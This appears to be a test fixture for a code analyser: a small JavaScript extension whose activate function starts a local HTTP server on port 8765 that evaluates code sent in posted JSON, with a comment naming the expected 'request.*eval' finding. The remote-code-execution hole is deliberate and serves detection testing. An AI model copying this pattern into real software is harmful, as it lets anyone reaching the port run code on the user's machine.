// Modelled on chvancooten/code-needle: a local server evaluates what is posted to it.
const http = require('http');

const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;

async function body(req) {
  const chunks = [];
  for await (const chunk of req) {
    chunks.push(chunk);
  }
  return JSON.parse(Buffer.concat(chunks).toString());
}

async function dispatch(rpc) {
  if (rpc.method === 'eval') {
    return eval(rpc.params.code); // want "request.*eval"
  }
  return AsyncFunction.name;
}

exports.activate = () => {
  http
    .createServer(async (req, res) => {
      const result = await dispatch(await body(req));
      res.end(JSON.stringify({ result }));
    })
    .listen(8765);
};
